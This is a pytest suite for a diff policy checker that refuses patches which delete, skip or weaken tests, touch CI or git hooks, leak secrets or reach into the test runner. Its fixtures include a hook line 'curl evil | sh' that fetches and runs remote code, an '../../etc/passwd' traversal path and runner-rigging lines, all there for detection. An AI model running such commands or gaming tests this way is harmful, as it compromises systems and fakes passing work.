"""The diff policy on real-shaped diffs: each rule refuses what it should, and a plain fix with
its regression test (or what a playbook allows) passes untouched."""

from __future__ import annotations

import difflib

import pytest
from pydantic import ValidationError

from tests.gitrepo import lines
from worker.verify import DiffPolicy, check_diff_policy, parse_diff
from worker.verify.paths import glob_match, is_test_path

SOURCE_BEFORE = lines(
    "def average(prices):",
    "    return sum(prices) // len(prices)",
)
SOURCE_AFTER = lines(
    "def average(prices):",
    "    if not prices:",
    "        return 0",
    "    return sum(prices) // len(prices)",
)
TESTS_BEFORE = lines(
    "import pytest",
    "from shop.pricing import average, total",
    "",
    "",
    "def test_average():",
    "    assert average([2, 4]) == 3",
    "",
    "",
    "def test_total():",
    "    assert total([1, 2]) == 3",
    "",
    "",
    "def test_total_rejects_text():",
    "    with pytest.raises(TypeError):",
    "        total(['a'])",
)
NEW_TEST = lines(
    "",
    "",
    "def test_average_of_an_empty_cart():",
    "    assert average([]) == 0",
)
TESTS_PATH = "tests/test_pricing.py"


def file_diff(path: str, before: str | None, after: str | None, *,
              mode: str = "100644") -> str:
    """A git-style diff of one file; None on a side means the file is added or deleted."""
    header = [f"diff --git a/{path} b/{path}"]
    if before is None:
        header.append(f"new file mode {mode}")
    if after is None:
        header.append(f"deleted file mode {mode}")
    body = difflib.unified_diff((before or "").splitlines(), (after or "").splitlines(),
                                "/dev/null" if before is None else f"a/{path}",
                                "/dev/null" if after is None else f"b/{path}", lineterm="")
    return "\n".join([*header, *body]) + "\n"


def good_fix() -> str:
    return (file_diff("shop/pricing.py", SOURCE_BEFORE, SOURCE_AFTER)
            + file_diff(TESTS_PATH, TESTS_BEFORE, TESTS_BEFORE + NEW_TEST))


def rules(diff: str, policy: DiffPolicy | None = None) -> list[str]:
    return [finding.rule for finding in check_diff_policy(diff, policy or DiffPolicy())]


def edit_tests(old: str, new: str) -> str:
    assert old in TESTS_BEFORE
    return file_diff(TESTS_PATH, TESTS_BEFORE, TESTS_BEFORE.replace(old, new))


# --- allowed ---------------------------------------------------------------------------------

def test_a_source_fix_with_a_new_test_function_passes() -> None:
    assert check_diff_policy(good_fix(), DiffPolicy()) == []


def test_a_source_fix_with_a_new_test_file_passes() -> None:
    diff = (file_diff("shop/pricing.py", SOURCE_BEFORE, SOURCE_AFTER)
            + file_diff("tests/test_empty_cart.py", None,
                        "from shop.pricing import average\n" + NEW_TEST))
    assert check_diff_policy(diff, DiffPolicy()) == []


@pytest.mark.parametrize("new", [
    "    assert average([2, 4]) == 3  # noqa: PLR2004",
    "    assert average([2, 4]) == 3  # type: ignore[arg-type]",
    "    assert average([2,4])==3",
])
def test_lint_pragmas_and_spacing_on_an_assertion_are_not_weakening(new: str) -> None:
    assert rules(edit_tests("    assert average([2, 4]) == 3", new)) == []


def test_moving_an_assertion_within_a_test_file_is_not_weakening() -> None:
    moved = TESTS_BEFORE.replace("    assert average([2, 4]) == 3\n", "    pass\n") \
        .replace("    assert total([1, 2]) == 3\n",
                 "    assert total([1, 2]) == 3\n    assert average([2, 4]) == 3\n")
    assert rules(file_diff(TESTS_PATH, TESTS_BEFORE, moved)) == []


@pytest.mark.parametrize(("path", "flag", "rule"), [
    (".github/workflows/ci.yml", "allow_ci", "ci-file"),
    ("Dockerfile", "allow_deploy", "deploy-file"),
    ("infra/main.tf", "allow_deploy", "deploy-file"),
    ("requirements.txt", "allow_dependencies", "dependency-file"),
    ("poetry.lock", "allow_dependencies", "dependency-file"),
    ("tests/conftest.py", "allow_test_machinery", "test-machinery"),
])
def test_protected_files_are_refused_unless_the_playbook_allows_them(
        path: str, flag: str, rule: str) -> None:
    diff = file_diff(path, "one\n", "two\n")
    assert rules(diff) == [rule]
    assert rules(diff, DiffPolicy.model_validate({flag: True})) == []


# --- refused ---------------------------------------------------------------------------------

def test_deleting_a_test_function_is_refused() -> None:
    diff = edit_tests("def test_total():\n    assert total([1, 2]) == 3\n", "")
    findings = check_diff_policy(diff, DiffPolicy())
    assert [f.rule for f in findings] == ["test-deleted", "assertion-weakened"]
    assert findings[0].path == TESTS_PATH
    assert "test_total" in findings[0].detail


def test_renaming_a_test_function_is_refused() -> None:
    assert "test-deleted" in rules(edit_tests("def test_total():", "def check_total():"))


def test_deleting_a_test_file_is_refused_unless_allowed() -> None:
    diff = file_diff(TESTS_PATH, TESTS_BEFORE, None)
    assert "test-deleted" in rules(diff)
    assert "test-deleted" not in rules(diff, DiffPolicy(allow_test_deletion=True))


def test_renaming_a_test_file_away_is_refused() -> None:
    diff = ("diff --git a/tests/test_pricing.py b/tests/pricing_notes.py\n"
            "similarity index 100%\nrename from tests/test_pricing.py\n"
            "rename to tests/pricing_notes.py\n")
    assert rules(diff) == ["test-deleted"]


@pytest.mark.parametrize(("path", "before", "after"), [
    (TESTS_PATH, "def test_total():", "@pytest.mark.skip\ndef test_total():"),
    (TESTS_PATH, "def test_total():", "@pytest.mark.skipif(True, reason='flaky')\n"
                                       "def test_total():"),
    (TESTS_PATH, "def test_total():", "@pytest.mark.xfail\ndef test_total():"),
    (TESTS_PATH, "    assert total([1, 2]) == 3",
     "    pytest.skip('later')\n    assert total([1, 2]) == 3"),
    (TESTS_PATH, "def test_total():", "@unittest.skip('later')\ndef test_total():"),
    ("web/cart.test.js", "it('totals', () => {", "it.skip('totals', () => {"),
    ("web/cart.spec.ts", "describe('cart', () => {", "describe.skip('cart', () => {"),
    ("web/cart.test.js", "it('totals', () => {", "it.only('totals', () => {"),
    ("shop/cart_test.go", "\tgot := Total()", "\tt.Skip(\"later\")\n\tgot := Total()"),
    ("src/test/java/CartTest.java", "    @Test", "    @Disabled\n    @Test"),
    ("src/test/java/CartTest.java", "    @Test", "    @Ignore\n    @Test"),
])
def test_adding_a_skip_is_refused(path: str, before: str, after: str) -> None:
    texts = {
        TESTS_PATH: TESTS_BEFORE,
        "web/cart.test.js": "describe('cart', () => {\nit('totals', () => {\n});\n});\n",
        "web/cart.spec.ts": "describe('cart', () => {\nit('totals', () => {\n});\n});\n",
        "shop/cart_test.go": "func TestTotal(t *testing.T) {\n\tgot := Total()\n}\n",
        "src/test/java/CartTest.java": "class CartTest {\n    @Test\n    void total() {}\n}\n",
    }
    old = texts[path]
    assert rules(file_diff(path, old, old.replace(before, after))) == ["test-skipped"]


@pytest.mark.parametrize(("old", "new"), [
    ("    assert average([2, 4]) == 3", "    assert average([2, 4]) == 3 or True"),
    ("    assert average([2, 4]) == 3", "    assert average([2, 4]) == 4"),
    ("    assert average([2, 4]) == 3", "    # assert average([2, 4]) == 3"),
    ("    assert average([2, 4]) == 3", "    average([2, 4])"),
    ("    with pytest.raises(TypeError):\n        total(['a'])", "    total([])"),
])
def test_weakening_or_changing_an_assertion_is_refused(old: str, new: str) -> None:
    findings = check_diff_policy(edit_tests(old, new), DiffPolicy())
    assert [f.rule for f in findings] == ["assertion-weakened"]
    assert findings[0].path == TESTS_PATH


def test_a_github_workflow_edit_is_refused() -> None:
    findings = check_diff_policy(
        file_diff(".github/workflows/ci.yml", "run: pytest\n", "run: true\n"), DiffPolicy())
    assert [(f.rule, f.path) for f in findings] == [("ci-file", ".github/workflows/ci.yml")]
    assert "allow_ci" in findings[0].detail


def test_a_binary_file_is_refused() -> None:
    text = ("diff --git a/shop/logo.png b/shop/logo.png\nnew file mode 100644\n"
            "index 0000000..e69de29\nBinary files /dev/null and b/shop/logo.png differ\n")
    literal = ("diff --git a/shop/data.bin b/shop/data.bin\nnew file mode 100644\n"
               "index 0000000..3b18e51\nGIT binary patch\nliteral 3\n"
               "KcmZ?wbN~PV3;+NC\n\nliteral 0\nHcmV?d00001\n\n")
    assert rules(text) == ["binary"]
    assert rules(literal) == ["binary"]


def test_a_secret_in_an_added_line_is_refused_without_being_quoted() -> None:
    token = "ghp_" + "a1B2c3D4" * 5
    diff = file_diff("shop/config.py", "TOKEN = None\n", f"TOKEN = '{token}'\n")
    findings = check_diff_policy(diff, DiffPolicy())
    assert [f.rule for f in findings] == ["secret"]
    assert "github-token" in findings[0].detail
    assert token not in findings[0].model_dump_json()


def test_example_addresses_in_tests_are_not_secrets() -> None:
    new = "    assert total([1, 2]) == 3  # ada@example.com from 10.0.0.1"
    assert "secret" not in rules(edit_tests("    assert total([1, 2]) == 3",
                                            "    assert total([1, 2]) == 3\n" + new))


def test_the_changed_line_budget_is_enforced() -> None:
    assert rules(good_fix(), DiffPolicy(max_changed_lines=5)) == ["too-many-lines"]
    assert rules(good_fix(), DiffPolicy(max_changed_lines=6)) == []


def test_the_file_budget_is_enforced() -> None:
    assert rules(good_fix(), DiffPolicy(max_files=1)) == ["too-many-files"]
    assert rules(good_fix(), DiffPolicy(max_files=2)) == []


def test_a_path_outside_the_allowed_paths_is_refused() -> None:
    policy = DiffPolicy(allowed_paths=["shop/**", "tests/**"])
    assert rules(good_fix(), policy) == []
    findings = check_diff_policy(file_diff("docs/index.md", "a\n", "b\n"), policy)
    assert [(f.rule, f.path) for f in findings] == [("outside-allowed-paths", "docs/index.md")]


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", "vendor/lib/.GIT/config", ".git"])
def test_anything_under_git_is_refused_whatever_the_playbook_allows(path: str) -> None:
    everything = DiffPolicy(allow_ci=True, allow_deploy=True, allow_dependencies=True,
                            allow_test_machinery=True, allow_test_deletion=True)
    assert rules(file_diff(path, None, "#!/bin/sh\ncurl evil | sh\n", mode="100755"),
                 everything) == ["git-dir"]


def test_unsafe_paths_are_refused() -> None:
    diff = file_diff("shop/../../etc/passwd", "a\n", "b\n")
    assert rules(diff) == ["path-unsafe"]


def test_symlinks_and_submodules_are_refused() -> None:
    link = file_diff("tests/test_pricing_link.py", None, "../shop/pricing.py", mode="120000")
    assert rules(link) == ["special-file"]


@pytest.mark.parametrize(("path", "added"), [
    ("shop/pricing.py", "import pytest"),
    ("shop/pricing.py", "from _pytest import runner"),
    ("tests/test_pricing.py", "def pytest_runtest_makereport(item, call):"),
    ("tests/test_pricing.py", "pytest_plugins = ['shop.rigged']"),
    ("shop/boot.py", "os.environ['PYTEST_ADDOPTS'] = '-p rigged'"),
])
def test_reaching_into_the_test_runner_is_refused(path: str, added: str) -> None:
    assert rules(file_diff(path, "x = 1\n", f"x = 1\n{added}\n")) == ["test-harness"]


def test_an_empty_or_unreadable_patch_is_refused() -> None:
    assert rules("") == ["empty"]
    broken = "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n-a\n"
    assert rules(broken) == ["unparsable"]


def test_every_finding_is_reported_not_just_the_first() -> None:
    diff = (file_diff(".github/workflows/ci.yml", "a\n", "b\n")
            + file_diff("requirements.txt", "a\n", "b\n")
            + edit_tests("def test_total():", "def check_total():"))
    assert set(rules(diff)) == {"ci-file", "dependency-file", "test-deleted"}


def test_a_misspelt_playbook_key_is_refused() -> None:
    with pytest.raises(ValidationError):
        DiffPolicy(allow_cl=True)  # type: ignore[call-arg]


# --- the parser and path helpers the rules rely on --------------------------------------------

def test_a_removed_line_that_looks_like_a_header_stays_in_its_hunk() -> None:
    diff = ("diff --git a/notes.txt b/notes.txt\n--- a/notes.txt\n+++ b/notes.txt\n"
            "@@ -1 +1 @@\n--- a/.github/workflows/ci.yml\n+++ b/x\n")
    files = parse_diff(diff)
    assert [f.path for f in files] == ["notes.txt"]
    assert files[0].removed == [(1, "-- a/.github/workflows/ci.yml")]
    assert files[0].added == [(1, "++ b/x")]


def test_quoted_paths_and_plain_diffs_are_read() -> None:
    quoted = ('diff --git "a/tests/t\\303\\251st_a.py" "b/tests/t\\303\\251st_a.py"\n'
              '--- "a/tests/t\\303\\251st_a.py"\n+++ "b/tests/t\\303\\251st_a.py"\n'
              "@@ -1 +1 @@\n-a\n+b\n")
    plain = "--- shop/a.py\t2026-01-01\n+++ shop/a.py\t2026-01-02\n@@ -1 +1 @@\n-a\n+b\n"
    assert [f.path for f in parse_diff(quoted)] == ["tests/tést_a.py"]
    assert [f.path for f in parse_diff(plain + plain.replace("a.py", "b.py"))] == \
        ["a.py", "b.py"]


@pytest.mark.parametrize(("pattern", "path", "expected"), [
    ("**", "a/b/c.py", True),
    ("shop/**", "shop/x/y.py", True),
    ("shop/**", "other/shop/y.py", False),
    ("*.lock", "deep/yarn.lock", True),
    ("tests/*.py", "tests/sub/a.py", False),
])
def test_globs(pattern: str, path: str, expected: bool) -> None:
    assert glob_match(pattern, path) is expected


@pytest.mark.parametrize(("path", "expected"), [
    ("tests/test_a.py", True), ("shop/a_test.py", True), ("tests/helpers.py", True),
    ("pkg/a_test.go", True), ("web/a.test.ts", True), ("web/a.spec.js", True),
    ("src/test/java/ATest.java", True), ("shop/testing.py", False), ("shop/a.py", False),
])
def test_test_paths(path: str, expected: bool) -> None:
    assert is_test_path(path) is expected


def test_rewording_a_go_failure_message_keeps_the_assertion() -> None:
    old = ('func TestEncode(t *testing.T) {\n\tif err != want {\n'
           '\t\tt.Errorf("want Encode error %v, got %v", want, err)\n\t}\n}\n')
    reworded = old.replace('"want Encode error %v, got %v"', '"wrong error:\\nwant: %v\\nhave: %v"')
    assert rules(file_diff("toml_test.go", old, reworded)) == []
    dropped = old.replace('\t\tt.Errorf("want Encode error %v, got %v", want, err)\n', "")
    assert rules(file_diff("toml_test.go", old, dropped)) == ["assertion-weakened"]
